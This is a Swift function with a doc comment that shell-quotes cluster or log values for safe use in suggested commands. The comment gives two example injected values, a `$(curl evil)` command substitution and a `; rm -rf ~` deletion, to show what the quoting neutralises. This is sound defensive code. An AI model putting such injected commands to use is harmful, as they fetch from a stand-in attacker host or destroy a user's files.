/// A value from the cluster or a log, made safe to paste into a suggested shell command: unchanged
/// when it holds only characters a shell takes literally, else single-quoted, so a name or path
/// written by a workload (`$(curl evil)`, `; rm -rf ~`) stays one literal word.
func sh(_ value: String) -> String {
    let safe = !value.isEmpty && value.unicodeScalars.allSatisfy { scalar in
        switch scalar {
        case "a"..."z", "A"..."Z", "0"..."9", ".", "_", "/", ":", "=", "@", "%", "+", ",", "-": return true
        default: return false
        }
    }
    return safe ? value : "'" + value.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
}
